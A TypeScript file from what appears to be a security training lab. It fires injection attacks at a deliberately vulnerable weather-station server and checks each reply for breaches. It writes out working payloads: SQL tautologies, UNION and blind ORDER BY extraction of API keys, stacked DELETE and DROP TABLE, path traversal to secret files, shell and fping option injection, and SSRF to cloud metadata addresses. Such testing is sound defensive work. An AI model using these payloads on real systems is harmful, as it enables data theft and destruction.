/**
 * Attacks in which data becomes something else: SQL, a path, a command, a URL. What becomes an order
 * to a model stands in `model-trust.ts`.
 */
import { z } from 'zod';
import {
  defineAttack,
  StepFailed,
  type Attack,
  type Findings,
  type Lab,
  type LabReply,
  type LegitimateUse,
  type TopicCatalogue,
} from './attack.ts';
import { modelTrustAttacks, modelTrustUses, textOf } from './model-trust.ts';
import { cwe, link, mcp, rfc } from './references.ts';
import { complainAboutInvalidInput, describeReply, succeeded } from './replies.ts';

const tools = mcp('server/tools', 'security-considerations', 'Tools, Security Considerations');
const MOST_ROWS = 100;

/** A user of its own for every call, so that no limit gets in the way. */
async function callAsUser(
  lab: Lab,
  tool: string,
  args: Record<string, unknown>,
  scope?: string,
): Promise<LabReply> {
  const token = await lab.mint(scope === undefined ? {} : { claims: { scope } });
  return lab.call(tool, args, { token });
}

/** An answer to an attack is an ordinary one, or says that the input is not acceptable. */
const complainAboutAnswer = (reply: LabReply): string[] =>
  succeeded(reply) ? [] : complainAboutInvalidInput(reply);

/** Tries one after the other until something is breached. */
async function tryEach<T>(items: T[], attempt: (item: T) => Promise<Findings>): Promise<Findings> {
  const complaints: string[] = [];
  for (const item of items) {
    const findings = await attempt(item);
    if (findings.breaches.length > 0) return findings;
    complaints.push(...findings.complaints);
  }
  return { breaches: [], complaints: [...new Set(complaints)] };
}

const excerpt = (text: string): string => (text.length > 100 ? `${text.slice(0, 100)}…` : text);

// ------------------------------------------------------------------------------------------ SQL

interface Search {
  query: string;
  sort_by?: string | undefined;
  limit?: string | number | undefined;
}
interface Searches {
  searches: Search[];
}
const searches: z.ZodType<Searches> = z.strictObject({
  searches: z
    .array(
      z.strictObject({
        query: z.string().max(2000),
        sort_by: z.string().max(2000).optional(),
        limit: z.union([z.string().max(2000), z.number()]).optional(),
      }),
    )
    .min(1)
    .max(12),
});

interface Station {
  name: string;
  city: string;
  country: string;
  elevation_m: number;
}

function stationsIn(reply: LabReply): Station[] {
  const { result } = (reply.json ?? {}) as {
    result?: { structuredContent?: { stations?: unknown } };
  };
  const stations = result?.structuredContent?.stations;
  if (!Array.isArray(stations)) return [];
  return stations as Station[];
}

/** Fills `{{…}}` in every text of a search. */
const fill = (search: Search, values: Record<string, string>): Search =>
  JSON.parse(JSON.stringify(search), (_key, value: unknown) =>
    typeof value === 'string'
      ? value.replaceAll(/\{\{(\w+)\}\}/g, (whole, name: string) => values[name] ?? whole)
      : value,
  ) as Search;

const searchFor = (lab: Lab, search: Search): Promise<LabReply> =>
  callAsUser(lab, 'search_stations', { ...search });

/** Spelled alike: case, accents and outer blanks may well be ignored by a search. */
const fold = (text: unknown): string =>
  String(text).normalize('NFKD').replaceAll(/\p{M}/gu, '').trim().toLowerCase();

const notContaining = (query: string, stations: Station[]): Station | undefined =>
  stations.find(({ name }) => !fold(name).includes(fold(query)));

/** A canary in the answer, too many rows, or rows that nobody searched for. */
async function judgeRows(lab: Lab, search: Search, reply: LabReply): Promise<Findings> {
  const { row } = await lab.canaries();
  const stations = stationsIn(reply);
  const stranger = notContaining(search.query, stations);
  const breaches: string[] = [];
  if (reply.text.includes(row)) {
    breaches.push('The answer holds an API key, from a table that no tool reads.');
  } else if (stranger) {
    breaches.push(
      `The search for “${excerpt(search.query)}” found ${stations.length} stations, ${excerpt(fold(stranger.name))} among them, whose name does not contain it.`,
    );
  }
  if (stations.length > MOST_ROWS) {
    breaches.push(
      `The answer has ${stations.length} rows; ${MOST_ROWS} are the most there may be.`,
    );
  }
  return { breaches, complaints: complainAboutAnswer(reply) };
}

const searchWorks = async (lab: Lab): Promise<string[]> => {
  const reply = await searchFor(lab, { query: 'Paris' });
  return stationsIn(reply).length > 0
    ? []
    : [`a search for “Paris” found nothing: ${describeReply(reply)}`];
};

/** What changed in the world, as far as the server itself shows it. */
async function lookAround(lab: Lab): Promise<string> {
  const paris = await searchFor(lab, { query: 'Paris' });
  if (stationsIn(paris).length === 0) return `no stations in Paris: ${describeReply(paris)}`;
  const owned = await searchFor(lab, { query: `owned-${lab.nonce}` });
  const alerts = await callAsUser(lab, 'list_all_alerts', {}, 'weather:admin');
  if (!succeeded(alerts))
    throw new StepFailed(`The alerts cannot be listed: ${describeReply(alerts)}`);
  const { result } = alerts.json as { result: { structuredContent?: unknown } };
  return JSON.stringify([stationsIn(paris), stationsIn(owned), result.structuredContent]);
}

/** Sends the searches; a breach is a world that looks different afterwards. */
async function changeTheWorld({ searches }: Searches, lab: Lab): Promise<Findings> {
  const before = await lookAround(lab);
  const findings = await tryEach(searches, async (search) => {
    const reply = await searchFor(lab, fill(search, { nonce: lab.nonce }));
    return { breaches: [], complaints: complainAboutAnswer(reply) };
  });
  const after = await lookAround(lab);
  if (after === before) return findings;
  return {
    breaches: [
      `A search changed the database: what the server says about Paris, and about alerts, is not what it said before.`,
    ],
    complaints: [],
  };
}

/** Two conditions about a secret, one of which holds. */
const CONDITIONS = ['>', '<'].map(
  (sign) => `EXISTS (SELECT 1 FROM api_keys WHERE length(api_key) ${sign} 4)`,
);

/** Asks a question about a secret twice; the order, the number or the failure of rows answers it. */
async function askByOrder(lab: Lab, search: Search): Promise<Findings> {
  const answers: string[] = [];
  const complaints: string[] = [];
  for (const condition of CONDITIONS) {
    const reply = await searchFor(lab, fill(search, { condition }));
    answers.push(JSON.stringify([succeeded(reply), stationsIn(reply)]));
    complaints.push(...complainAboutAnswer(reply));
  }
  if (answers[0] === answers[1]) return { breaches: [], complaints };
  return {
    breaches: [
      'The rows come differently, depending on what an API key is like: asked often enough, the answers spell it.',
    ],
    complaints: [],
  };
}

const sqlAttacks: Attack[] = [
  defineAttack<Searches>({
    id: 'sqli-tautology-union',
    title: 'A search that finds everything',
    level: 'core',
    story:
      'The attacker searches for a name with an apostrophe in it. Behind the apostrophe the text is not a name any more but SQL: a condition that always holds, or a second query for a table of API keys.',
    secureAnswer:
      'A search that finds nothing, because no station is called that; or invalid input. The text is bound to a placeholder, and never part of the statement.',
    lessonAnchor: 'sql',
    references: [cwe(89, 'SQL Injection'), tools],
    payload: searches,
    ordinaryUse: searchWorks,
    variants: {
      'always true': {
        searches: [
          { query: "' OR '1'='1" },
          { query: "x') OR 1=1 --" },
          { query: "x') > 0 OR 1=1 --" },
          { query: 'x" OR 1=1 --' },
        ],
      },
      'without a keyword': { searches: [{ query: "' <> 'x" }] },
      'in mixed case': { searches: [{ query: "x' oR/**/1=1 --" }] },
      'through doubled quotes': {
        searches: [
          { query: "x'' OR 1=1 --" },
          { query: "x'') OR 1=1 --" },
          { query: "x'') > 0 OR 1=1 --" },
          { query: "x\\' OR 1=1 --" },
          { query: "x' OR 1=1 --' OR 1=1 --" },
        ],
      },
      'API keys': {
        searches: [
          { query: "x' UNION SELECT 1, api_key, 3, 4, 5, 6 FROM api_keys --" },
          { query: "x') UNION SELECT 1, api_key, 3, 4, 5, 6 FROM api_keys --" },
          { query: "x') > 0 UNION SELECT 1, api_key, 3, 4, 5, 6 FROM api_keys --" },
        ],
      },
      'API keys, in spite of filters': {
        searches: [
          { query: "x' UNIUNIONON SELSELECTECT 1, api_key, 3, 4, 5, 6 FROM api_keys --" },
          { query: "x'/**/UnIoN/**/SeLeCt/**/1,api_key,3,4,5,6/**/FROM/**/api_keys/**/--" },
          { query: "x\\' UNION SELECT 1, api_key, 3, 4, 5, 6 FROM api_keys --" },
        ],
      },
      'a quote in full width': {
        searches: [
          { query: 'x＇ OR 1=1 --' },
          { query: 'xʼ OR 1=1 --' },
          { query: "x' OR 1=1 --" },
        ],
      },
      'a quote, encoded': { searches: [{ query: 'x%27 OR 1=1 --' }, { query: "x' OR 1=1 --" }] },
    },
    fire: ({ searches }, lab) =>
      tryEach(searches, async (search) => judgeRows(lab, search, await searchFor(lab, search))),
  }),

  defineAttack<Searches>({
    id: 'sqli-stacked',
    title: 'A search that changes the data',
    level: 'core',
    story:
      'A semicolon ends the search, and a statement of the attacker’s follows: it renames stations, empties a table, adds an alert that nobody saved.',
    secureAnswer:
      'Nothing changes. A placeholder keeps the text a text; a function that runs one statement only is the second line.',
    lessonAnchor: 'sql',
    references: [cwe(89, 'SQL Injection'), tools],
    payload: searches,
    ordinaryUse: searchWorks,
    variants: {
      rename: {
        searches: [
          { query: "x'); UPDATE stations SET name = 'owned-{{nonce}} Paris' WHERE id < 4; --" },
          { query: "x') > 0; UPDATE stations SET name = 'owned-{{nonce}} Paris' WHERE id < 4; --" },
          {
            query: "x'') > 0; UPDATE stations SET name = 'owned-{{nonce}} Paris' WHERE id < 4; --",
          },
          { query: "x'; UPDATE stations SET name = 'owned-{{nonce}} Paris' WHERE id < 4; --" },
        ],
      },
      empty: {
        searches: [
          { query: "x'); DELETE FROM stations; --" },
          { query: "x') > 0; DELETE FROM stations; --" },
          { query: "x'; DELETE FROM stations; --" },
        ],
      },
      drop: { searches: [{ query: "x'; DROP TABLE stations; --" }] },
      'an alert nobody saved': {
        searches: [
          {
            query: `x'; INSERT INTO alerts (owner, city, text, created_at) VALUES ('["","nobody"]', 'Paris', 'owned-{{nonce}}', ''); --`,
          },
        ],
      },
      'through the limit': {
        searches: [{ query: 'Paris', limit: '5; DELETE FROM stations' }],
      },
      'through the order': {
        searches: [{ query: 'Paris', sort_by: 'name; DELETE FROM stations; --' }],
      },
    },
    fire: changeTheWorld,
  }),

  defineAttack<Searches>({
    id: 'sqli-order-by',
    title: 'Questions in the order of rows',
    level: 'core',
    story:
      'The query is bound, but a column name cannot be, and so `sort_by` was pasted in, and `limit` with it. The attacker sorts by a condition about the API keys. The rows come in one order if it holds and in another if not, and that is one bit of the key for every call.',
    secureAnswer:
      'Invalid input for anything but the four columns; a limit that is a whole number, of 100 at most.',
    lessonAnchor: 'what-cannot-be-bound',
    references: [cwe(89, 'SQL Injection'), cwe(943, 'Special Elements in Data Query Logic')],
    payload: searches,
    ordinaryUse: searchWorks,
    variants: {
      'a condition to sort by': {
        searches: [
          { query: 'Observatory', sort_by: 'CASE WHEN {{condition}} THEN id ELSE -id END' },
        ],
      },
      'a column, then a condition': {
        searches: [
          {
            query: 'Observatory',
            sort_by: 'country, CASE WHEN {{condition}} THEN id ELSE -id END',
          },
          { query: 'Observatory', sort_by: 'name IS NULL, {{condition}} * id - id / 2' },
          {
            query: 'Observatory',
            sort_by: 'country\n, CASE WHEN {{condition}} THEN id ELSE -id END',
          },
        ],
      },
      'a condition, then a column': {
        searches: [
          { query: 'Observatory', sort_by: 'CASE WHEN {{condition}} THEN id ELSE -id END, name' },
          { query: 'Observatory', sort_by: 'CASE WHEN {{condition}} THEN id ELSE -id END\nname' },
        ],
      },
      'a condition in arithmetic': {
        searches: [{ query: 'Observatory', sort_by: 'id*(0.5-({{condition}}))' }],
      },
      'as many rows as a condition says': {
        searches: [
          { query: 'Observatory', limit: '(SELECT CASE WHEN {{condition}} THEN 3 ELSE 2 END)' },
          { query: 'Observatory', limit: '2+{{condition}}' },
        ],
      },
      'a second query behind the limit': {
        searches: [{ query: 'Paris', limit: '1; SELECT api_key AS name FROM api_keys' }],
      },
      'every row there is': {
        searches: [
          { query: 'Observatory', limit: -1 },
          { query: 'Observatory', limit: '-1' },
          { query: 'Observatory', limit: 1000 },
          { query: 'Observatory', limit: '1000' },
          { query: 'Observatory', limit: '1e9' },
          { query: 'Observatory', limit: 100.5 },
          { query: 'Observatory', limit: '' },
        ],
      },
    },
    fire: ({ searches }, lab) =>
      tryEach(searches, async (search) =>
        JSON.stringify(search).includes('{{condition}}')
          ? askByOrder(lab, search)
          : judgeRows(lab, search, await searchFor(lab, search)),
      ),
  }),

  defineAttack<Searches>({
    id: 'sqli-like-wildcards',
    title: 'Wildcards in a bound text',
    level: 'core',
    story:
      'No quote, no SQL: the attacker searches for a percent sign. It reaches `LIKE` through a placeholder, as it should, and there it stands for any text at all.',
    secureAnswer:
      'Stations whose name contains a percent sign; there is one. Escape what `LIKE` reads as wildcards, or search with something that has none.',
    lessonAnchor: 'wildcards',
    references: [
      cwe(155, 'Improper Neutralization of Wildcards'),
      link('SQLite, LIKE', 'https://www.sqlite.org/lang_expr.html#like'),
    ],
    payload: searches,
    ordinaryUse: searchWorks,
    variants: {
      'percent sign': { searches: [{ query: '%' }] },
      'between letters': { searches: [{ query: 'P%s' }] },
      underscores: { searches: [{ query: '_____' }] },
      'underscore for a letter': { searches: [{ query: 'P_ris' }] },
      'after a hundred': { searches: [{ query: '100%' }] },
      'of another syntax': {
        searches: [
          { query: '*' },
          { query: '?' },
          { query: '[A-Z]' },
          { query: '.+' },
          { query: '%%' },
        ],
      },
    },
    fire: ({ searches }, lab) =>
      tryEach(searches, async (search) => judgeRows(lab, search, await searchFor(lab, search))),
  }),

  defineAttack<Searches>({
    id: 'sqli-expensive',
    title: 'A search that counts to ten million',
    level: 'stretch',
    story:
      'The attacker wants no data. The search contains a query that makes rows out of nothing and counts them; the database works on it in the server’s only thread, and everybody waits.',
    secureAnswer: 'A search that finds nothing, at once.',
    lessonAnchor: 'sql',
    references: [cwe(89, 'SQL Injection'), cwe(400, 'Uncontrolled Resource Consumption')],
    payload: searches,
    variants: {
      'ten million rows': {
        searches: [
          {
            query:
              "x' OR (WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 10000000) SELECT sum(n) FROM c) = 0 OR '1' = '2",
          },
        ],
      },
    },
    fire: ({ searches }, lab) =>
      tryEach(searches, async (search) => {
        const { longestWaitMs, processorMs } = await lab.whileWatchingNeighbours(() =>
          searchFor(lab, search),
        );
        // A slow machine makes neighbours wait too; only the server's own work is the attack's.
        const isStalled = longestWaitMs > 1000 && (processorMs === undefined || processorMs > 700);
        return {
          breaches: isStalled ? ['One search kept the server busy; a neighbour had to wait.'] : [],
          complaints: [],
        };
      }),
  }),
];

// ---------------------------------------------------------------------------------------- files

interface Names {
  names: string[];
}
const names: z.ZodType<Names> = z.strictObject({
  names: z.array(z.string().max(2000)).min(1).max(12),
});

const readReport = (lab: Lab, name: string): Promise<LabReply> =>
  callAsUser(lab, 'read_report', { name });

/** The content of the secret file in the answer is the breach. */
const readSecrets = ({ names }: Names, lab: Lab): Promise<Findings> =>
  tryEach(names, async (name) => {
    const { file } = await lab.canaries();
    const reply = await readReport(lab, name);
    if (reply.text.includes(file)) {
      return {
        breaches: [`The report “${excerpt(name)}” is a secret file beside the report folder.`],
        complaints: [],
      };
    }
    const [wasThere, wasNot] = [
      reply,
      await readReport(lab, name.replace('flag', `no-such-${lab.nonce}`)),
    ].map((answer) => whatIsSaid(answer).replaceAll(/flag|no-such-\w+/g, ''));
    const tells =
      wasThere !== wasNot
        ? [
            'A file outside that exists is answered otherwise than one that does not, so that callers can find out which files there are.',
          ]
        : [];
    return { breaches: [], complaints: [...complainAboutAnswer(reply), ...tells] };
  });

/** Code and message of an error, without what names the one request. */
function whatIsSaid(reply: LabReply): string {
  const { result } = (reply.json ?? {}) as { result?: { content?: { text?: string }[] } };
  const text = result?.content?.[0]?.text ?? reply.text;
  return text.replaceAll(/"request_id":"[^"]*"/g, '');
}

const reportsWork = async (lab: Lab): Promise<string[]> => {
  const reply = await readReport(lab, '2026-03-paris.txt');
  return succeeded(reply)
    ? []
    : [`the report 2026-03-paris.txt was refused: ${describeReply(reply)}`];
};

const file = {
  level: 'core',
  payload: names,
  ordinaryUse: reportsWork,
  fire: readSecrets,
} as const;

const pathAttacks: Attack[] = [
  defineAttack<Names>({
    ...file,
    id: 'path-dotdot',
    title: 'Up and over',
    story:
      'The attacker names a report that begins with the way out of the folder. Spellings of it slip past filters: encoded, with backslashes, or so that removing `../` leaves another one.',
    secureAnswer:
      'Not found, whatever lies there. The path is resolved first and compared afterwards.',
    lessonAnchor: 'paths',
    references: [cwe(22, 'Path Traversal'), cwe(23, 'Relative Path Traversal')],
    variants: {
      'one up': { names: ['../data-secret/flag.txt'] },
      'down and two up': { names: ['archive/../../data-secret/flag.txt'] },
      'all the way up': { names: ['../../../srv/weather/data-secret/flag.txt'] },
      'past filters': {
        names: [
          '....//data-secret/flag.txt',
          '..././data-secret/flag.txt',
          '....//....//weather/data-secret/flag.txt',
          '%2e%2e%2fdata-secret%2fflag.txt',
          '%252e%252e%252fdata-secret%252fflag.txt',
          '..\\data-secret\\flag.txt',
          '．．/data-secret/flag.txt',
          './/..//data-secret/flag.txt',
        ],
      },
    },
  }),

  defineAttack<Names>({
    ...file,
    id: 'path-absolute',
    title: 'From the root',
    story:
      'A path that begins at the root. To `path.join` it is a path below the folder like any other, and so are its dots; `path.resolve` drops the folder and starts anew.',
    secureAnswer: 'Not found.',
    lessonAnchor: 'paths',
    references: [cwe(36, 'Absolute Path Traversal')],
    variants: {
      'absolute path': {
        names: ['/srv/weather/data-secret/flag.txt', '/../data-secret/flag.txt'],
      },
      'through the folder': {
        names: [
          '/srv/weather/data/../data-secret/flag.txt',
          '//srv/weather/data-secret/flag.txt',
          '/../../../srv/weather/data-secret/flag.txt',
        ],
      },
      'a file URL, a home, a drive': {
        names: [
          'file:///srv/weather/data-secret/flag.txt',
          '~/../../srv/weather/data-secret/flag.txt',
          'C:\\srv\\weather\\data-secret\\flag.txt',
          '/./../data-secret/flag.txt',
        ],
      },
    },
  }),

  defineAttack<Names>({
    ...file,
    id: 'path-prefix-sibling',
    title: 'A folder whose name begins alike',
    story:
      'The served folder is `/srv/weather/data`. The secret one beside it is `/srv/weather/data-secret`, and to `startsWith` that begins with the right letters.',
    secureAnswer:
      'Not found. Paths are compared segment by segment: with `path.relative`, or with a separator at the end.',
    lessonAnchor: 'compare-segments',
    references: [cwe(22, 'Path Traversal'), cwe(187, 'Partial String Comparison')],
    variants: {
      sibling: { names: ['../data-secret/flag.txt'] },
      'sibling, by a detour': {
        names: ['../data/../data-secret/flag.txt', '../data/archive/../../data-secret/flag.txt'],
      },
      'its letters alone': { names: ['-secret/flag.txt', '/../data-secret/flag.txt'] },
    },
  }),

  defineAttack<Names>({
    ...file,
    id: 'path-symlink',
    title: 'A link in the folder',
    story:
      'Somebody once made a link in the report folder, `latest.txt`. Its name is perfectly good, and it leads out. Whatever only looks at names lets it through.',
    secureAnswer:
      'Not found: `realpath` says where the link leads, and that is compared with the folder.',
    lessonAnchor: 'follow-links-first',
    references: [cwe(59, 'Link Following'), cwe(61, 'UNIX Symbolic Link Following')],
    variants: {
      link: { names: ['latest.txt'] },
      'link, by a detour': { names: ['./latest.txt', 'archive/../latest.txt'] },
    },
  }),
];

// ------------------------------------------------------------------------------------- commands

interface Hosts {
  hosts: string[];
  /** A report to read afterwards, which a command may have made. */
  readBack?: string | undefined;
}
const hosts: z.ZodType<Hosts> = z.strictObject({
  hosts: z.array(z.string().max(2000)).min(1).max(12),
  readBack: z.string().max(200).optional(),
});

const ping = (lab: Lab, host: string): Promise<LabReply> =>
  callAsUser(lab, 'ping_station', { host });

/** The content of the secret file, in the answer or in a report that was not there before. */
const runCommands = ({ hosts, readBack }: Hosts, lab: Lab): Promise<Findings> =>
  tryEach(hosts, async (host) => {
    const { file } = await lab.canaries();
    const reply = await ping(lab, host);
    const copy = readBack === undefined ? undefined : await readReport(lab, readBack);
    const hasSecret = [reply, copy].some((answer) => answer?.text.includes(file));
    return hasSecret
      ? {
          breaches: [`Pinging “${excerpt(host)}” gave away a secret file.`],
          complaints: [],
        }
      : { breaches: [], complaints: complainAboutAnswer(reply) };
  });

const pingWorks = async (lab: Lab): Promise<string[]> => {
  const reply = await ping(lab, 'paris-1.stations.example');
  return succeeded(reply) ? [] : [`paris-1 was not pinged: ${describeReply(reply)}`];
};

const commandAttacks: Attack[] = [
  defineAttack<Hosts>({
    id: 'cmd-shell',
    title: 'A host with a command behind it',
    level: 'core',
    story:
      'The host is pasted into a line for the shell. A semicolon, a pipe, a line end, a dollar sign with brackets: the shell knows many ways to begin a second command, also between quotes.',
    secureAnswer:
      'Invalid input, or one host of that odd name which nobody knows. With an argument vector there is no shell that could read it.',
    lessonAnchor: 'commands',
    references: [cwe(78, 'OS Command Injection'), tools],
    payload: hosts,
    ordinaryUse: pingWorks,
    variants: {
      semicolon: { hosts: ['x; cat ../data-secret/flag.txt'] },
      substitution: { hosts: ['$(cat ../data-secret/flag.txt)'] },
      backticks: { hosts: ['`cat ../data-secret/flag.txt`'] },
      pipe: { hosts: ['x | cat ../data-secret/flag.txt', 'x || cat ../data-secret/flag.txt'] },
      and: { hosts: ['paris-1.stations.example && cat ../data-secret/flag.txt'] },
      background: { hosts: ['x & cat ../data-secret/flag.txt'] },
      'line end': {
        hosts: [
          'paris-1.stations.example\ncat ../data-secret/flag.txt',
          'x\ncat ../data-secret/flag.txt',
        ],
      },
      'without blanks': { hosts: ['x;cat<../data-secret/flag.txt', '$(<../data-secret/flag.txt)'] },
      'out of quotes': {
        hosts: [
          '"; cat ../data-secret/flag.txt; "',
          "'; cat ../data-secret/flag.txt; '",
          "x'; cat ../data-secret/flag.txt #",
          'x"; cat ../data-secret/flag.txt #',
          "\\'; cat ../data-secret/flag.txt #",
          '-c 1 x; cat ../data-secret/flag.txt',
        ],
      },
      'nothing to see': {
        hosts: ['paris-1.stations.example; cp ../data-secret/flag.txt copy.txt'],
        readBack: 'copy.txt',
      },
    },
    fire: runCommands,
  }),

  defineAttack<Hosts>({
    id: 'cmd-argument',
    title: 'A host that is an option',
    level: 'core',
    story:
      'No shell is needed. fping reads what begins with a hyphen as an option, and `-f` as the file to read host names from. It does not know those hosts, and says so, line by line.',
    secureAnswer:
      'Invalid input, or an unknown host. `--` ends the options of most programs; a host name never begins with a hyphen.',
    lessonAnchor: 'options-are-arguments-too',
    references: [
      cwe(88, 'Argument Injection'),
      link('fping(8)', 'https://fping.org/fping.1.html'),
      link(
        'POSIX, Utility Syntax Guidelines (10: --)',
        'https://pubs.opengroup.org/onlinepubs/9799919799/basedefs/V1_chap12.html#tag_12_02',
      ),
    ],
    payload: hosts,
    ordinaryUse: pingWorks,
    variants: {
      'a file': { hosts: ['-f/srv/weather/data-secret/flag.txt'] },
      'by its long name': { hosts: ['--file=/srv/weather/data-secret/flag.txt'] },
      'letters and dots only': { hosts: ['-flatest.txt'] },
      'behind a blank': {
        hosts: [
          ' -f/srv/weather/data-secret/flag.txt',
          '\t-flatest.txt',
          '\n-flatest.txt',
          '\u00a0-flatest.txt',
        ],
      },
      'behind other hyphens': {
        hosts: [
          '--f/srv/weather/data-secret/flag.txt',
          '---file=/srv/weather/data-secret/flag.txt',
          'paris-1.stations.example -flatest.txt',
          '-f../data-secret/flag.txt',
        ],
      },
    },
    fire: runCommands,
  }),
];

// ------------------------------------------------------------------------------ requests upstream

interface Cities {
  cities: string[];
}
const cities: z.ZodType<Cities> = z.strictObject({
  cities: z.array(z.string().max(300)).min(1).max(12),
});

/** Each city must be asked for as it is, in one segment of the path, at our upstream only. */
const askAstray = ({ cities }: Cities, lab: Lab): Promise<Findings> =>
  tryEach(cities, async (city) => {
    const reply = await callAsUser(lab, 'get_weather', { city, units: 'metric' });
    const requests = (await lab.tape()).filter(({ requestId }) => requestId === reply.requestId);
    for (const entry of requests) {
      if (entry.kind !== 'upstream') continue;
      const { host, pathname } = new URL(entry.url);
      const shown = entry.keyShown ? ', and our API key went along' : '';
      if (!entry.expected) {
        return {
          breaches: [`The server asked ${host} for ${excerpt(pathname)}${shown}.`],
          complaints: [],
        };
      }
      const asked = decodeURIComponent(pathname.split('/').at(-1) ?? '');
      const cameUp = Array.from(asked).find(
        (character) => '/\\?#'.includes(character) && !city.includes(character),
      );
      if (cameUp !== undefined) {
        return {
          breaches: [
            `The city “${excerpt(city)}” was decoded on its way: upstream reads “${excerpt(asked)}”, with a “${cameUp}” in it${shown}.`,
          ],
          complaints: [],
        };
      }
    }
    return { breaches: [], complaints: complainAboutAnswer(reply) };
  });

const ssrfAttacks: Attack[] = [
  defineAttack<Cities>({
    id: 'ssrf',
    title: 'A city that is an address',
    level: 'core',
    story:
      'The city becomes part of a URL. With two slashes in front it names another host, with dots it climbs to other paths of the weather service, with a question mark it adds parameters. The server sends its API key wherever it goes.',
    secureAnswer:
      'One request for one segment, `current/{city}` with the city encoded, which nobody knows; or invalid input and no request at all.',
    lessonAnchor: 'urls',
    references: [
      cwe(918, 'Server-Side Request Forgery'),
      rfc(3986, '3.3'),
      link(
        'OWASP API7:2023 Server Side Request Forgery',
        'https://owasp.org/API-Security/editions/2023/en/0xa7-server-side-request-forgery/',
      ),
    ],
    payload: cities,
    variants: {
      'another host': { cities: ['//evil.example/x'] },
      'an address inside': { cities: ['http://169.254.169.254/latest/meta-data/'] },
      'a host behind user info': {
        cities: [
          '//weather-api.example@evil.example/',
          'http://weather-api.example:80@evil.example/',
        ],
      },
      'another path': { cities: ['../admin'] },
      'a path behind a city': { cities: ['Paris/../../admin'] },
      'from the root': { cities: ['/admin'] },
      'a parameter': { cities: ['Paris?key=1'] },
      'a fragment': { cities: ['Paris#/admin'] },
      backslashes: { cities: ['..\\..\\admin', '\\\\evil.example\\x'] },
      encoded: {
        cities: ['%2e%2e%2fadmin', '%2e%2e/admin', 'Paris%3fkey=1', 'Paris%2f..%2f..%2fadmin'],
      },
      'with a tab inside': { cities: ['.\t./admin', '/\t/evil.example/x', ' ../admin'] },
      'past filters': {
        cities: ['....//admin', '..././admin', 'Paris;/../admin', 'HTTP:evil.example', '/admin'],
      },
    },
    fire: askAstray,
  }),
];

// ----------------------------------------------------------------------------------- ordinary use

/** Sorted, by whatever rule for letters. */
function isSorted(values: (string | number)[]): boolean {
  const rules: ((a: string | number, b: string | number) => number)[] = [
    (a, b) => (a < b ? -1 : a > b ? 1 : 0),
    (a, b) => (String(a).toLowerCase() < String(b).toLowerCase() ? -1 : 0),
    (a, b) => String(a).localeCompare(String(b)),
  ];
  return rules.slice(0, typeof values[0] === 'number' ? 1 : 3).some((compare) =>
    values.every((value, index) => {
      const previous = values[index - 1];
      return previous === undefined || compare(value, previous) >= 0;
    }),
  );
}

const uses: LegitimateUse[] = [
  {
    id: 'search-takes-names-literally',
    title: 'Finds Xi’an, L’Aquila, 100% and Under_score',
    why: 'Apostrophes, percent signs and underscores are part of names. A search that removes them, or reads them, finds something else.',
    lessonAnchor: 'wildcards',
    references: [cwe(89, 'SQL Injection'), cwe(155, 'Improper Neutralization of Wildcards')],
    worksOnBaseline: false,
    async try(lab) {
      const problems: string[] = [];
      const expected: [query: string, name: string][] = [
        ['Paris Obs', 'Paris Observatory'],
        ["Xi'an", "Xi'an Observatory"],
        ["'s-Hertogenbosch", "'s-Hertogenbosch Observatory"],
        ['São Paulo', 'São Paulo Observatory'],
        ['東京', ''],
        ['100%', 'Humidity 100% Test Site'],
        ['Under_score', 'Under_score Ridge'],
        ['ris Obs', 'Paris Observatory'],
      ];
      for (const [query, name] of expected) {
        const reply = await searchFor(lab, { query });
        const found = stationsIn(reply);
        const stranger = notContaining(query, found);
        if (!succeeded(reply)) {
          problems.push(`The search for “${query}” was refused: ${describeReply(reply)}`);
        } else if (stranger) {
          problems.push(`The search for “${query}” found ${stranger.name}.`);
        } else if (name !== '' && !found.some((station) => station.name === name)) {
          problems.push(`The search for “${query}” did not find ${name}.`);
        }
      }
      return problems;
    },
  },
  {
    id: 'search-sorts-and-limits',
    title: 'Sorts by four columns, and keeps to a limit',
    why: 'A list of allowed columns still allows them, and a limit may come as a number or as text.',
    lessonAnchor: 'what-cannot-be-bound',
    references: [cwe(89, 'SQL Injection')],
    worksOnBaseline: true,
    async try(lab) {
      const problems: string[] = [];
      for (const column of ['name', 'city', 'country', 'elevation_m'] as const) {
        const reply = await searchFor(lab, { query: 'Observatory', sort_by: column, limit: 100 });
        const values = stationsIn(reply).map((station) => station[column]);
        if (values.length !== 100) {
          problems.push(
            `100 stations by ${column} were asked for, and ${values.length} came: ${describeReply(reply)}`,
          );
        } else if (!isSorted(values)) {
          problems.push(`Stations by ${column} do not come in its order.`);
        }
        const first = await searchFor(lab, { query: 'Observatory', sort_by: column, limit: 3 });
        const firstValues = stationsIn(first).map((station) => station[column]);
        if (JSON.stringify(firstValues) !== JSON.stringify(values.slice(0, 3))) {
          problems.push(`The first three stations by ${column} are not the first of a hundred.`);
        }
      }
      for (const limit of [1, 5, '5', undefined]) {
        const reply = await searchFor(lab, { query: 'Observatory', limit });
        const got = stationsIn(reply).length;
        const wanted = Number(limit ?? 20);
        if (got !== wanted) {
          problems.push(
            `The limit ${JSON.stringify(limit) ?? '(none)'} gave ${got} rows: ${describeReply(reply)}`,
          );
        }
      }
      return problems;
    },
  },
  {
    id: 'serves-reports',
    title: 'Serves the reports there are, and only says of others that they are missing',
    why: 'A report of any city is read by its name. For one that is not there a model needs an answer that says so.',
    lessonAnchor: 'paths',
    references: [cwe(22, 'Path Traversal')],
    worksOnBaseline: true,
    async try(lab) {
      const problems: string[] = [];
      for (const [name, start] of [
        ['2026-03-paris.txt', 'Paris (FR), 2026-03'],
        ['2026-03-tokyo.txt', '東京 (JP), 2026-03'],
        ['2026-03-sao-paulo.txt', 'São Paulo (BR), 2026-03'],
      ] as const) {
        const reply = await readReport(lab, name);
        const { result } = (reply.json ?? {}) as {
          result?: { structuredContent?: { report?: unknown } };
        };
        const report = textOf(result?.structuredContent?.report)?.normalize('NFKC');
        if (!report?.startsWith(start) || !report.includes('mean temperature')) {
          problems.push(`The report ${name} is not what was served: ${describeReply(reply)}`);
        }
      }
      for (const name of ['no-such-report.txt', '', '.', 'archive', 'no\u0000.txt']) {
        const reply = await readReport(lab, name);
        const complaints = complainAboutInvalidInput(reply);
        problems.push(...complaints.map((complaint) => `Asked for “${name}”: ${complaint}`));
      }
      return problems;
    },
  },
  {
    id: 'pings-stations',
    title: 'Pings stations, in capitals too, and says that others are not known',
    why: 'Host names have digits, hyphens and dots, and upper case means nothing in them.',
    lessonAnchor: 'commands',
